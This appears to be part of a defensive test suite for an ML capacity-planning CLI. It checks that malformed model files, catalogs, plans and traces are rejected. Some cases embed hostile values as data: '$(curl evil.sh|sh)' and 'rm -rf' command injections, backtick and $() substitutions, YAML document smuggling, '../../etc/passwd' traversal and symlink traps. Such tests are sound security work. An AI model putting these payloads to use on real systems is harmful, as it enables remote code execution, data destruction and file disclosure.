cfg("resnet depth huge", json.dumps(dict(RESNET, depths=[3, 4, 10**9, 3])), "depths[2]")
cfg("resnet width too narrow for a bottleneck", json.dumps(dict(RESNET, hidden_sizes=[2, 512, 1024, 2048])), "hidden_sizes[0]")
cfg("resnet no stages", json.dumps(dict(RESNET, depths=[], hidden_sizes=[])), "depths")
cfg("resnet 17 stages", json.dumps(dict(RESNET, depths=[1] * 17, hidden_sizes=[64] * 17)), "depths")
cfg("resnet unknown block", json.dumps(dict(RESNET, layer_type="inverted")), "layer_type")
cfg("resnet stem width negative", json.dumps(dict(RESNET, embedding_size=-64)), "embedding_size")
cfg("resnet channels zero", json.dumps(dict(RESNET, num_channels=0)), "num_channels")
cfg("resnet hidden_sizes an object", json.dumps(dict(RESNET, hidden_sizes={"a": 1})), "hidden_sizes")
case("config.json: invalid utf-8 string", ["memory", "--model", "m/config.json"], field="m/config.json",
     hex={"m/config.json": b'{"model_type": "ll\xffama"}'.hex()})
case("config.json: 17 MiB", ["memory", "--model", "m/config.json"], field="m/config.json",
     gen={"m/config.json": {"prefix": '{"pad": "', "repeat": "x" * 1024, "times": 17 * 1024, "suffix": '"}'}})
case("config.json: model dir without config", ["memory", "--model", "m"], field="--model", files={"m/x.txt": "x"})
case("config.json: other extension", ["memory", "--model", "m/model.bin"], field="--model", files={"m/model.bin": "x"})

# --- safetensors headers and indexes -------------------------------------------------------
def st_bytes(header, data_len=0, length=None):
    h = header.encode("latin-1") if isinstance(header, str) else header
    n = len(h) if length is None else length
    return (n.to_bytes(8, "little") + h + b"\0" * data_len).hex()
def st(name, header, field, data_len=0, length=None, **kw):
    case(f"safetensors: {name}", ["memory", "--model", "w/model.safetensors"], field=field,
         hex={"w/model.safetensors": st_bytes(header, data_len, length)}, **kw)
T1 = '{"a": {"dtype": "F16", "shape": [2, 2], "data_offsets": [0, 8]}}'
st("length 0", T1, "w/model.safetensors", length=0)
st("length past file", T1, "w/model.safetensors", length=10**6)
st("length 2^63", T1, "w/model.safetensors", length=2**63)
st("length 2^64-1", T1, "w/model.safetensors", length=2**64 - 1)
st("header not json", "not json at all", "w/model.safetensors")
st("header deep nesting", '{"a": ' + "[" * 100000 + "]" * 100000 + "}", "w/model.safetensors")
st("dtype deep array", '{"a": {"dtype": ' + "[" * 50000 + "]" * 50000 + ', "shape": [1], "data_offsets": [0, 2]}}', "w/model.safetensors")
st("dtype 60-deep array", '{"a": {"dtype": ' + "[" * 60 + "]" * 60 + ', "shape": [1], "data_offsets": [0, 2]}}', "w/model.safetensors:a")
st("offsets negative", '{"a": {"dtype": "F16", "shape": [1], "data_offsets": [-2, 0]}}', "data_offsets")
st("offsets summed past int64",
   '{"a": {"dtype": "I8", "shape": [4611686018427387904], "data_offsets": [0, 4611686018427387904]}, '
   '"b": {"dtype": "I8", "shape": [4611686018427387904], "data_offsets": [4611686018427387904, 9223372036854775807]}}',
   "w/model.safetensors")
st("offsets 1e400", '{"a": {"dtype": "F16", "shape": [1], "data_offsets": [0, 1e400]}}', "w/model.safetensors")
st("shape overflow", '{"a": {"dtype": "F16", "shape": [4294967296, 4294967296, 4294967296], "data_offsets": [0, 2]}}', "shape")
st("shape negative", '{"a": {"dtype": "F16", "shape": [-1], "data_offsets": [0, 2]}}', "shape")
st("duplicate tensor", '{"a": {"dtype": "F16", "shape": [1], "data_offsets": [0, 2]}, "a": {"dtype": "F16", "shape": [1], "data_offsets": [2, 4]}}', "w/model.safetensors:a", data_len=4)
st("overlapping ranges", '{"a": {"dtype": "F16", "shape": [2], "data_offsets": [0, 4]}, "b": {"dtype": "F16", "shape": [2], "data_offsets": [2, 6]}}', "w/model.safetensors", data_len=6)
st("top-level array", "[1, 2]", "w/model.safetensors")
st("entry not object", '{"a": 5}', "w/model.safetensors:a")
st("data truncated", T1, "w/model.safetensors", data_len=2)
st("invalid utf-8 key", b'{"\xff": {"dtype": "F16", "shape": [1], "data_offsets": [0, 2]}}', "w/model.safetensors", data_len=2)
case("safetensors: 4 bytes only", ["memory", "--model", "w/model.safetensors"], field="w/model.safetensors", hex={"w/model.safetensors": "01020304"})
def idx(name, text, field, **kw):
    case(f"index: {name}", ["memory", "--model", "w/model.safetensors.index.json"], field=field,
         files={"w/model.safetensors.index.json": text}, **kw)
idx("total_size deep array", '{"metadata": {"total_size": ' + "[" * 100000 + "]" * 100000 + '}, "weight_map": {"a": "x.safetensors"}}', "w/model.safetensors.index.json")
idx("total_size 1e400", '{"metadata": {"total_size": 1e400}, "weight_map": {"a": "x.safetensors"}}', "w/model.safetensors.index.json")
idx("total_size negative", '{"metadata": {"total_size": -5}, "weight_map": {"a": "x.safetensors"}}', "total_size")
idx("total_size 2^62", '{"metadata": {"total_size": 4611686018427387904}, "weight_map": {"a": "x.safetensors"}}', "total_size")
idx("total_size array", '{"metadata": {"total_size": [1]}, "weight_map": {"a": "x.safetensors"}}', "total_size")
idx("weight_map missing", '{"metadata": {"total_size": 10}}', "weight_map")
idx("weight_map array", '{"weight_map": [1]}', "weight_map")
idx("shard not string", '{"weight_map": {"a": 5}}', "weight_map")
idx("shard path traversal", '{"weight_map": {"a": "../../etc/passwd"}}', "weight_map")
idx("shard absolute", '{"weight_map": {"a": "/etc/passwd"}}', "weight_map")
idx("no sizes and no shards", '{"weight_map": {"a": "x.safetensors"}}', "total_size")
idx("not json", "{", "w/model.safetensors.index.json")

# --- catalog CSV overrides ---------------------------------------------------------------------
HDR = "cloud,instance_type,region,accelerator,accelerator_count,cpu,vcpus,ram_gib,local_nvme_gb,network_gbps,intra_node_link,inter_node_fabric,inter_node_gbps,price_on_demand,price_spot,price_reserved_1y,price_reserved_3y,currency,source,as_of,notes\n"
ROW = "mycloud,{it},us-1,H100-SXM5-80GB,8,,192,2048,,400,nvswitch,infiniband,3200,{price},,,,USD,https://example.com,2026-01-01,{notes}\n"
def inst(name, body, field, cmd=None, **kw):
    args = ["--catalog", "instances.csv"] + (cmd or ["instances"])
    case(f"catalog: {name}", args, field=field, files={"instances.csv": HDR + body}, **kw)
case("catalog: newline and $(curl) in instance_type, then emit slurm",
     ["--catalog", "instances.csv", "instances"], field="instance_type",
     files={"instances.csv": HDR + ROW.format(it='"p5\n$(curl evil.sh|sh)"', price="10", notes="x")})
case("catalog: injection row then emit slurm --job",
     ["--catalog", "instances.csv", "emit", "slurm", "--job", "j.yaml"], field="instance_type",
     files={"instances.csv": HDR + ROW.format(it='"p5\n$(curl evil.sh|sh)"', price="0.01", notes="x"), "j.yaml": JOB})
case("catalog: injection row then plan train",
     ["--catalog", "instances.csv", "plan", "train", "--tokens", "1B"], field="instance_type",
     files={"instances.csv": HDR + ROW.format(it='"x; rm -rf ~"', price="10", notes="x")})
for bad in ['"a\\"b"', '"a`id`"', '"a$HOME"', '"a|b"', '"a\tb"', '"a*b"', '"-rf"', '"' + "i" * 300 + '"']:
    inst(f"instance_type {bad[:20]}", ROW.format(it=bad, price="10", notes="x"), "instance_type")
inst("region with newline", HDR.replace(HDR, "") + "mycloud,ok.1,\"us\nkind: Evil\",H100-SXM5-80GB,8,,192,2048,,400,nvswitch,infiniband,3200,10,,,,USD,s,2026-01-01,n\n", "region")
inst("cloud with space", "my cloud,ok.1,us-1,H100-SXM5-80GB,8,,192,2048,,400,nvswitch,infiniband,3200,10,,,,USD,s,2026-01-01,n\n", "cloud")
inst("unknown accelerator", "mycloud,ok.1,us-1,H999,8,,192,2048,,400,nvswitch,infiniband,3200,10,,,,USD,s,2026-01-01,n\n", "accelerator")
inst("price nan", ROW.format(it="ok.1", price="nan", notes="x"), "price_on_demand")
inst("price -1", ROW.format(it="ok.1", price="-1", notes="x"), "price_on_demand")
inst("price 1e400", ROW.format(it="ok.1", price="1e400", notes="x"), "price_on_demand")
inst("accelerator_count 1e12", "mycloud,ok.1,us-1,H100-SXM5-80GB,1000000000000,,192,2048,,400,nvswitch,infiniband,3200,10,,,,USD,s,2026-01-01,n\n", "accelerator_count")
inst("unterminated quote", 'mycloud,"ok.1,us-1\n', "instances.csv")
inst("cell count mismatch", "mycloud,ok.1\n", "instances.csv")
inst("header only + junk line", "\x00\x00\n", "instances.csv")
case("catalog: 100001 rows", ["--catalog", "instances.csv", "instances"], field="instances.csv", timeout_s=30,
     gen={"instances.csv": {"prefix": HDR, "repeat": ROW.format(it="r.1", price="1", notes="n"), "times": 100001}})
case("catalog: over 32 MiB", ["--catalog", "instances.csv", "instances"], field="--catalog", timeout_s=30,
     gen={"instances.csv": {"prefix": HDR, "repeat": ROW.format(it="r.1", price="1", notes="n" * 2000), "times": 17000}})
case("catalog: invalid utf-8 in source, --json instances", ["--json", "--catalog", "instances.csv", "instances", "--cloud", "mycloud"], rc=0,
     hex={"instances.csv": (HDR + ROW.format(it="ok.1", price="10", notes="n").replace("https://example.com", "https://ex\xffample.com")).encode("latin-1").hex()},
     stdout_has="\ufffd")
case("catalog: invalid utf-8 instance_type", ["--json", "--catalog", "instances.csv", "instances"], field="instance_type",
     hex={"instances.csv": (HDR + ROW.format(it="ok\xff", price="10", notes="n")).encode("latin-1").hex()})
case("catalog: missing file", ["--catalog", "nope.csv", "instances"], field="--catalog")
case("catalog: a directory", ["--catalog", ".", "instances"], field="--catalog")
GPUS_HDR = open(os.path.join(os.path.dirname(__file__), "..", "data", "gpus.csv")).readline()
case("catalog: gpus table dropping an instance's GPU, then check",
     ["--catalog", "gpus.csv", "check", "-f", "c.yaml"], field="hardware.instance",
     files={"gpus.csv": GPUS_HDR, "c.yaml": CHECK})
case("catalog: gpus table dropping an instance's GPU, then plan",
     ["--catalog", "gpus.csv", "plan", "train", "--tokens", "1B"], field="constraints", files={"gpus.csv": GPUS_HDR})
case("catalog: gpus id with quote", ["--catalog", "gpus.csv", "gpus"], field="gpus.csv",
     files={"gpus.csv": GPUS_HDR + 'X"Y' + "," * (GPUS_HDR.count(",")) + "\n"})
CPU_LINES = open(os.path.join(os.path.dirname(__file__), "..", "data", "cpus.csv")).read().split("\n")
for threads in ("8e52", "20", "80.5"):  # fuzz_catalog_csv: 8e52 was cast to int (UBSan)
    case(f"catalog: cpus threads {threads}", ["--catalog", "cpus.csv", "instances", "--cpu-only"],
         field="threads", files={"cpus.csv": CPU_LINES[0] + "\n" +
                                 CPU_LINES[1].replace(",40,80,", f",40,{threads},", 1) + "\n"})
case("catalog: gpus pcie_gen 1e300", ["--catalog", "gpus.csv", "gpus"], field="pcie_gen",
     files={"gpus.csv": open(os.path.join(os.path.dirname(__file__), "..", "data", "gpus.csv")).read()
            .replace(",nvlink4,900,5,", ",nvlink4,900,1e300,", 1)})
SKY_HDR = "InstanceType,AcceleratorName,AcceleratorCount,vCPUs,MemoryGiB,Price,Region,GpuInfo,SpotPrice\n"
def sky(name, body, field, rc=2, **kw):
    case(f"skypilot: {name}", ["--catalog", "aws=vms.csv", "instances", "--cloud", "aws"], rc=rc, field=field,
         files={"vms.csv": SKY_HDR + body}, **kw)
sky("price nan", "p5.48xlarge,H100,8,192,2048,nan,us-east-1,,\n", "vms.csv")
sky("count 1e12 (a fractional/odd count: row skipped)", "p5.48xlarge,H100,1000000000000,192,2048,98,us-east-1,,\n", None, rc=0)
sky("unsafe names skipped", 'p5.48xlarge,H100,8,192,2048,98,us-east-1,,\n"x\n$(id)",H100,8,192,2048,98,us-east-1,,\n', None, rc=0)
sky("unterminated quote", 'p5.48xlarge,"H100,8\n', "vms.csv")
case("skypilot: cannot tell the cloud", ["--catalog", "vms.csv", "instances"], field="--catalog",
     files={"vms.csv": SKY_HDR + "p5.48xlarge,H100,8,192,2048,98,us-east-1,,\n"})

# --- validate JSONL ----------------------------------------------------------------------------
CASE = {"id": "c1", "kind": "memory", "metric": "memory_per_gpu_gib", "measured": 10,
        "model": {"preset": "Llama-2-7B"}, "workload": {"mode": "train", "batch": 1}, "hardware": {"gpu": "H100-SXM5-80GB", "count": 1}}
def val(name, text, field, **kw):
    case(f"validate: {name}", ["validate", "cases.jsonl"], field=field, files={"cases.jsonl": text}, **kw)
def vcase(**over):
    c = json.loads(json.dumps(CASE))
    for k, v in over.items():
        c[k] = v
    return json.dumps(c) + "\n"
val("deep id", '{"id": ' + "[" * 100000 + "]" * 100000 + "}\n", "cases.jsonl:1")
for key in ["measured", "model", "workload", "hardware", "kind"]:
    val(f"deep {key}", vcase(**{key: "@@"}).replace('"@@"', "[" * 100000 + "]" * 100000), "cases.jsonl:1")
val("measured 1e400", vcase().replace('"measured": 10', '"measured": 1e400'), "cases.jsonl:1")
val("params 1e60", vcase(model={"params": 1e60}), "params")
val("hidden 1e12", vcase(model={"layers": 2, "hidden": 1e12, "heads": 2, "vocab": 10}), "hidden")
val("layers -5", vcase(model={"layers": -5, "hidden": 64, "heads": 2, "vocab": 10}), "layers")
val("workload batch 1e300", vcase(workload={"mode": "train", "batch": 1e300}), "workload.batch")
val("hardware count 1e300", vcase(hardware={"gpu": "H100-SXM5-80GB", "count": 1e300}), "hardware.count")
for key, v in [("gpu_memory_utilization", 7), ("cuda_memory_fraction", -1),
               ("max_batch_prefill_tokens", -5), ("max_input_tokens", 1e12), ("max_num_seqs", 0)]:
    val(f"infer {key} {v}", vcase(kind="memory", metric="kv_cache_tokens",
                                 workload={"infer": {"engine": "tgi", key: v}}), key)
val("not an object", "[1]\n", "cases.jsonl:1")
val("missing id", json.dumps({"kind": "memory"}) + "\n", "id")
val("measured 0", vcase(measured=0), "measured")
val("measured string", vcase(measured="10"), "measured")
val("broken json line 2", vcase() + "{\n", "cases.jsonl:2")
case("validate: invalid utf-8", ["validate", "cases.jsonl"], field="cases.jsonl:1",
     hex={"cases.jsonl": vcase(id="@@").replace("@@", "c\xff").encode("latin-1").hex()})
case("validate: 2 MiB line", ["validate", "cases.jsonl"], field="cases.jsonl:1",
     gen={"cases.jsonl": {"prefix": '{"id": "', "repeat": "x" * 1024, "times": 2048, "suffix": '"}\n'}})
case("validate: --kind bogus", ["validate", "--kind", "bogus", "cases.jsonl"], field="--kind", files={"cases.jsonl": vcase()})
case("validate: missing file", ["validate", "none.jsonl"], field="FILE")
val("empty file", "", "cases.jsonl")
val("infer enforce_eager string", vcase(kind="memory", metric="kv_cache_gib",
                                        workload={"infer": {"engine": "vllm", "enforce_eager": "yes"}}),
    "enforce_eager")
val("blank lines only", "\n  \n\n", "cases.jsonl")
case("validate: --kind with no case of it", ["validate", "--kind", "infer_latency", "cases.jsonl"],
     field="--kind", files={"cases.jsonl": vcase()})
case("validate: --cv, --kind with no case of it",
     ["validate", "--cv", "source", "--kind", "infer_latency", "cases.jsonl"],
     field="--kind", files={"cases.jsonl": vcase()})
case("validate: --explain an id not in the file", ["validate", "--explain", "no-such-case", "cases.jsonl"], field="--explain", files={"cases.jsonl": vcase()})
case("validate: --explain with --cv", ["validate", "--cv", "source", "--explain", "x", "cases.jsonl"], field="--explain", files={"cases.jsonl": vcase()})
case("instances --min-gpus -1", ["instances", "--min-gpus", "-1"], field="--min-gpus")
case("instances --limit -5", ["instances", "--limit", "-5"], field="--limit")
case("instances --min-gpu-memory nan", ["instances", "--min-gpu-memory", "nan"], field="--min-gpu-memory")
case("instances --region not in the catalog", ["instances", "--region", "3d"], field="--region")
case("instances --region of another cloud", ["instances", "--cloud", "aws", "--region", "us-central1"], field="--region")
case("plan infer --regions typo", ["plan", "infer", "-m", "llama-3-8b", "--qps", "1", "--regions", "us-east-l"], field="--regions[0]")
case("plan train --regions not in the catalog", ["plan", "train", "-m", "llama-2-7b", "--tokens", "1B", "--regions", "us-east-1,zz"], field="--regions[1]")
case("tco --regions of another cloud", ["tco", "-m", "llama-3-8b", "--qps", "1", "--clouds", "aws", "--regions", "us-central1"], field="--regions[0]")
case("instances --cpu-only --gpu H100", ["instances", "--cpu-only", "--gpu", "H100"], field="--cpu-only")

# --- plan JSON for emit --------------------------------------------------------------------
PLAN_TRAIN = {"schema_version": "1", "job": {"model": "Llama-2-7B", "tokens": 1e9, "precision": "bf16", "method": "full",
              "seq_len": 4096, "global_batch": 128},
              "plans": [{"cloud": "aws", "instance_type": "p5.48xlarge", "region": "us-east-1", "accelerator": "H100-SXM5-80GB",
                         "gpus_per_node": 8, "nodes": 1, "layout": {"tp": 1, "pp": 1, "dp": 8, "zero_stage": 1, "micro_batch": 1,
                         "num_microbatches": 16, "recompute": "none"}, "step_time_s": 1.0, "job_hours": 10, "price_per_hour": 98,
                         "host": {"cpu_cores": 96, "ram_bytes": 1e12}}]}
def plan(name, doc_or_text, field, target="slurm", extra=None, **kw):
    text = doc_or_text if isinstance(doc_or_text, str) else json.dumps(doc_or_text)
    case(f"plan json ({target}): {name}", ["emit", target, "--plan", "p.json"] + (extra or []), field=field,
         files={"p.json": text}, **kw)
def mod(path, value):
    d = json.loads(json.dumps(PLAN_TRAIN))
    cur = d
    for k in path[:-1]:
        cur = cur[k]
    cur[path[-1]] = value
    return d
for target in ["slurm", "k8s", "skypilot"]:
    plan("instance_type injection", mod(["plans", 0, "instance_type"], "p5\n$(curl evil.sh|sh)"), "instance_type", target)
    plan("kind: Evil document", mod(["plans", 0, "region"], "us-east-1\n---\nkind: Evil"), "region", target)
    plan("deep nesting", '{"job": ' + "[" * 100000 + "]" * 100000 + "}", "--plan", target)
plan("model with quote", mod(["job", "model"], 'x"; rm -rf / #'), "job.model")
plan("model with newline", mod(["job", "model"], "x\nkind: Evil"), "job.model")
plan("model_ref with $()", mod(["job", "model_ref"], "$(id)"), "job.model_ref")
plan("cloud with space", mod(["plans", 0, "cloud"], "a b"), "plans[0].cloud")
plan("accelerator backtick", mod(["plans", 0, "accelerator"], "H100`id`"), "plans[0].accelerator")
plan("recompute injection", mod(["plans", 0, "layout", "recompute"], "none\nrm"), "recompute")
plan("method injection", mod(["job", "method"], "full;id"), "job.method")
plan("nodes 1e10", mod(["plans", 0, "nodes"], 1e10), "plans[0].nodes")
plan("gpus_per_node 1e6", mod(["plans", 0, "gpus_per_node"], 1000000), "gpus_per_node")
plan("tp 1e9", mod(["plans", 0, "layout", "tp"], 10**9), "layout.tp")
plan("micro_batch 1e9", mod(["plans", 0, "layout", "micro_batch"], 10**9), "micro_batch")
plan("tp 0", mod(["plans", 0, "layout", "tp"], 0), "plans[0].layout.tp")
plan("micro_batch 0", mod(["plans", 0, "layout", "micro_batch"], 0), "plans[0].layout.micro_batch")
plan("nodes 0", mod(["plans", 0, "nodes"], 0), "plans[0].nodes")
plan("seq_len 1e12", mod(["job", "seq_len"], 10**12), "job.seq_len")
plan("tokens 1e400", json.dumps(PLAN_TRAIN).replace('"tokens": 1000000000.0', '"tokens": 1e400'), "--plan")
plan("not json", "nope", "--plan")
plan("empty", "", "--plan")
plan("plans empty", mod(["plans"], []), "plans")
plan("plans not array", mod(["plans"], {}), "plans")
plan("rank 0", PLAN_TRAIN, "--rank", extra=["--rank", "0"])
plan("rank 99", PLAN_TRAIN, "--rank", extra=["--rank", "99"])
plan("rank -1", PLAN_TRAIN, "--rank", extra=["--rank", "-1"])
plan("instance_type array", mod(["plans", 0, "instance_type"], [[[1]]]), "instance_type")
PLAN_SERVE = {"schema_version": "1",
              "job": {"model": "Llama-2-7B", "qps": 2.0, "input_len": 512, "output_len": 256,
                      "engine": "vllm", "precision": "fp16"},
              "plans": [{"cloud": "aws", "region": "us-east-1", "instance_type": "g6e.xlarge",
                         "accelerator": "L40S", "gpus_per_replica": 1, "replicas": 1, "batch": 86,
                         "kv_tokens_per_replica": 55440, "capacity_qps_per_replica": 2.79,
                         "e2e_p99_ms": 21950.4, "cost_per_hour": 1.86}]}
def smod(key, value):
    d = json.loads(json.dumps(PLAN_SERVE))
    d["plans"][0][key] = value
    return d
# A serving plan with zero replicas or a zero batch was emitted as one (clamped silently).
for target in ["k8s", "vllm"]:
    plan("serve replicas 0", smod("replicas", 0), "plans[0].replicas", target)
    plan("serve batch 0", smod("batch", 0), "plans[0].batch", target)
case("plan json (k8s): the serving plan these cases mutate emits", ["emit", "k8s", "--plan", "p.json"],
     rc=0, files={"p.json": json.dumps(PLAN_SERVE)})
case("plan json: invalid utf-8", ["emit", "slurm", "--plan", "p.json"], field="--plan",
     hex={"p.json": json.dumps(mod(["job", "model"], "@@")).replace("@@", "x\xff").encode("latin-1").hex()})
case("plan json: 17 MiB", ["emit", "slurm", "--plan", "p.json"], field="--plan",
     gen={"p.json": {"prefix": '{"pad": "', "repeat": "x" * 1024, "times": 17 * 1024, "suffix": '"}'}})
case("emit: unknown target", ["emit", "bogus", "--plan", "p.json"], field="target", files={"p.json": json.dumps(PLAN_TRAIN)})
case("emit: --plan and --job", ["emit", "slurm", "--plan", "p.json", "--job", "j.yaml"], field="--plan",
     files={"p.json": json.dumps(PLAN_TRAIN), "j.yaml": JOB})
case("emit: missing plan file", ["emit", "slurm", "--plan", "none.json"], field="--plan")
case("emit: --autoscaler bogus", ["emit", "k8s", "--plan", "p.json", "--autoscaler", "x"], field="--autoscaler",
     files={"p.json": json.dumps(PLAN_TRAIN)})

# --- the file system under emit -o -----------------------------------------------------------
GOOD = json.dumps(PLAN_TRAIN)
case("emit -o: planted link at the old temporary name", ["emit", "slurm", "--plan", "p.json", "-o", "out"], rc=0,
     files={"p.json": GOOD}, guard={"victim.txt": "precious\n"}, links={"out/.train.sbatch.tmp": "../victim.txt"})
case("emit -o: destination is a link", ["emit", "slurm", "--plan", "p.json", "-o", "out"], field="-o",
     files={"p.json": GOOD}, guard={"victim.txt": "precious\n"}, links={"out/train.sbatch": "../victim.txt"})
case("emit -o: destination is a link with --force", ["emit", "slurm", "--plan", "p.json", "-o", "out", "--force"], field="-o",
     files={"p.json": GOOD}, guard={"victim.txt": "precious\n"}, links={"out/train.sbatch": "../victim.txt"})
case("emit -o: dangling link destination", ["emit", "slurm", "--plan", "p.json", "-o", "out"], field="-o",
     files={"p.json": GOOD}, links={"out/train.sbatch": "../nowhere.txt"})
case("emit -o: existing file without --force", ["emit", "slurm", "--plan", "p.json", "-o", "out"], field="-o",
     files={"p.json": GOOD}, guard={"out/train.sbatch": "mine\n"})
case("emit -o: destination is a directory", ["emit", "slurm", "--plan", "p.json", "-o", "out", "--force"], field="-o",
     files={"p.json": GOOD, "out/train.sbatch/keep": "x"})
case("emit -o: out is a file", ["emit", "slurm", "--plan", "p.json", "-o", "out"], field="-o",
     files={"p.json": GOOD}, guard={"out": "a file\n"})
case("emit -o: under a file", ["emit", "slurm", "--plan", "p.json", "-o", "f/sub"], field="-o",
     files={"p.json": GOOD}, guard={"f": "a file\n"})
case("emit -o: out dir is a link to elsewhere (allowed)", ["emit", "slurm", "--plan", "p.json", "-o", "out"], rc=0,
     files={"p.json": GOOD, "real/.keep": ""}, links={"out": "real"})
case("emit -o: k8s refuses all when one exists", ["emit", "monitoring", "--plan", "p.json", "-o", "out"], field="-o",
     files={"p.json": GOOD}, guard={"out/grafana-dashboard.json": "{}\n"})

# --- write errors on stdout ------------------------------------------------------------------
case("stdout /dev/full: models", ["models"], field="stdout", stdout="/dev/full")
case("stdout /dev/full: plan train", ["plan", "train", "--tokens", "1B"], field="stdout", stdout="/dev/full")
case("stdout /dev/full: --json plan train", ["--json", "plan", "train", "--tokens", "1B"], field="stdout", stdout="/dev/full")
case("stdout /dev/full: emit", ["emit", "slurm", "--plan", "p.json"], field="stdout", stdout="/dev/full", files={"p.json": GOOD})
case("stdout closed: --json plan train", ["--json", "plan", "train", "--tokens", "1B"], field="stdout", stdout="closed")
case("stdout closed: gpus", ["gpus"], field="stdout", stdout="closed")

# --- endless inputs (character devices) stop at the size cap --------------------------------
case("endless: plan train -f /dev/zero", ["plan", "train", "-f", "/dev/zero"], field="-f", timeout_s=10)
case("endless: validate /dev/zero", ["validate", "/dev/zero"], field="FILE", timeout_s=20)
case("endless: --catalog /dev/zero", ["--catalog", "/dev/zero", "gpus"], field="--catalog", timeout_s=20)
case("endless: emit --plan /dev/zero", ["emit", "slurm", "--plan", "/dev/zero"], field="--plan", timeout_s=10)
case("endless: simulate --trace /dev/zero", ["simulate", "--model", "Llama-2-7B", "--trace", "/dev/zero"],
     field="--trace", timeout_s=10)
case("endless: simulate --plan /dev/zero", ["simulate", "--plan", "/dev/zero"], field="--plan", timeout_s=10)
case("endless: plan infer -f /dev/urandom", ["plan", "infer", "-f", "/dev/urandom"], field="-f",
     timeout_s=10)
case("endless: memory --model /dev/zero", ["memory", "--model", "/dev/zero"], field="--model", timeout_s=10)

# --- a flag the requested analysis would ignore (twentieth session) --------------------------
case("memory --infer --seq-len (serving reads --context)", ["memory", "-m", "llama-3-8b", "--infer", "--seq-len", "8192"], field="--seq-len")
case("memory --infer --batch", ["memory", "-m", "llama-3-8b", "--infer", "--batch", "4"], field="--batch")
case("memory --infer --zero", ["memory", "-m", "llama-3-8b", "--infer", "--zero", "3"], field="--zero")
case("memory --infer --ep", ["memory", "-m", "mixtral-8x7b", "--infer", "--ep", "2"], field="--ep")
case("memory --train --context", ["memory", "-m", "llama-3-8b", "--train", "--context", "8192"], field="--context")
case("memory --train --engine", ["memory", "-m", "llama-3-8b", "--train", "--engine", "tgi"], field="--engine")
case("memory --train --gpu-memory-utilization", ["memory", "-m", "llama-3-8b", "--train", "--gpu-memory-utilization", "0.5"], field="--gpu-memory-utilization")
case("memory --train --quant awq on full training", ["memory", "-m", "llama-3-8b", "--train", "--quant", "awq"], field="--quant")
case("memory --train qlora --quant int8", ["memory", "-m", "llama-3-8b", "--train", "--method", "qlora", "--quant", "int8"], field="--quant")
case("train --spot-rate without --spot", ["plan", "train", "--tokens", "1B", "--spot-rate", "0.5"], field="--spot-rate")
case("infer --think-s without --users", ["plan", "infer", "--model", "llama-3-8b", "--qps", "1", "--think-s", "5"], field="--think-s")
case("tco --think-s without --users", ["tco", "--model", "bert-base", "--qps", "10", "--think-s", "5"], field="--think-s")
case("infer --cpu-only with --gpus", ["plan", "infer", "--model", "bert-base", "--qps", "1", "--cpu-only", "--gpus", "H100"], field="--gpus")
case("infer --tpot-ms on an encoder", ["plan", "infer", "--model", "bert-base", "--qps", "1", "--tpot-ms", "50"], field="--tpot-ms")
case("infer --kv-precision on a CNN", ["plan", "infer", "--model", "resnet-50", "--qps", "1", "--kv-precision", "fp8"], field="--kv-precision")

# --- simulate's --csv/--svg write through SafeWriteFiles (never over a file without --force) --
SIM = ["simulate", "--model", "llama-3-8b", "--synthetic", "--days", "1", "--peak-rps", "5"]
case("simulate --svg over an existing file", SIM + ["--svg", "chart.svg"], field="--svg", guard={"chart.svg": "keep\n"})
case("simulate --csv over an existing file", SIM + ["--csv", "t.csv", "--svg", "new.svg"], field="--csv", guard={"t.csv": "keep\n"})
case("simulate --csv through a link", SIM + ["--csv", "t.csv", "--force"], field="--csv",
     files={"real.txt": "keep\n"}, links={"t.csv": "real.txt"}, guard={"real.txt": "keep\n"})
case("simulate --svg names a directory", SIM + ["--svg", "out/"], field="--svg", files={"out/.keep": ""})
case("simulate --csv and --svg the same file", SIM + ["--csv", "x", "--svg", "x"], field="--svg")
case("simulate --peak-hour 25", SIM + ["--peak-hour", "25"], field="--peak-hour")
case("simulate --node-provision-s 1e9", SIM + ["--node-provision-s", "1e9"], field="--node-provision-s")
case("simulate --image-gb 1e12", SIM + ["--image-gb", "1e12"], field="--image-gb")
case("simulate --peak-rps 1e308 (named, not --qps)", ["simulate", "--model", "llama-3-8b", "--synthetic", "--days", "1", "--peak-rps", "1e308"], field="--peak-rps")
case("simulate --burst-factor 1e9", SIM + ["--burst-factor", "1e9"], field="--burst-factor")
case("simulate --min-replicas 2e9 (was 12.6 GB and exit 70)", SIM + ["--min-replicas", "2000000000"], field="--min-replicas", timeout_s=10)
case("simulate --min-replicas 100000 over a day", SIM + ["--min-replicas", "100000"], field="--min-replicas", timeout_s=10)
case("simulate --max-replicas 100001", SIM + ["--max-replicas", "100001"], field="--max-replicas", timeout_s=10)
case("simulate a peak that needs 165k replicas", ["simulate", "--model", "llama-3-8b", "--synthetic", "--days", "1", "--peak-rps", "500000"], field="--peak-rps", timeout_s=10)

# --- emit options checked against the plan (twentieth session) ---------------------------------
case("emit --image with a shell metacharacter", ["emit", "slurm", "--plan", "p.json", "--image", "x;rm -rf /"], field="--image", files={"p.json": GOOD})
case("emit --image with a space", ["emit", "k8s", "--plan", "p.json", "--image", "a b"], field="--image", files={"p.json": GOOD})
case("emit --min-replicas 100001", ["emit", "k8s", "--plan", "p.json", "--min-replicas", "100001"], field="--min-replicas", files={"p.json": GOOD})

# --- encoder-decoder serving: the request's shape is the model's (twentieth session) -------------
case("infer --input-len on Whisper (a fixed audio window)", ["plan", "infer", "--model", "whisper-large-v3", "--qps", "1", "--input-len", "100"], field="--input-len")
case("infer Whisper --output-len beyond its decoder context", ["plan", "infer", "--model", "whisper-large-v3", "--qps", "1", "--output-len", "1000"], field="--output-len")
case("memory Whisper --context beyond its decoder context", ["memory", "--model", "whisper-large-v3", "--infer", "--context", "1000"], field="--context")

# --- traces: bounded spans, rates and lengths (a far timestamp was a bad_alloc, exit 70) ------
TR = ["simulate", "--model", "llama-3-8b", "--trace", "t.txt"]
case("trace: mooncake timestamp 1e18 ms", TR, field="t.txt:2:timestamp",
     files={"t.txt": '{"timestamp": 0, "input_length": 10, "output_length": 5}\n{"timestamp": 1e18, "input_length": 10, "output_length": 5}\n'})
case("trace: azure dates 8000 years apart", TR, field="t.txt:3:TIMESTAMP",
     files={"t.txt": "TIMESTAMP,ContextTokens,GeneratedTokens\n2023-11-16 18:15:46.6805900,374,44\n9999-11-16 18:15:47.0000000,100,20\n"})
case("trace: mooncake input_length 1e12", TR, field="t.txt:1:input_length",
     files={"t.txt": '{"timestamp": 0, "input_length": 1e12, "output_length": 5}\n'})
case("trace: minute rps 1e300", TR, field="t.txt:3:rps", files={"t.txt": "minute,rps\n0,5\n1,1e300\n"})
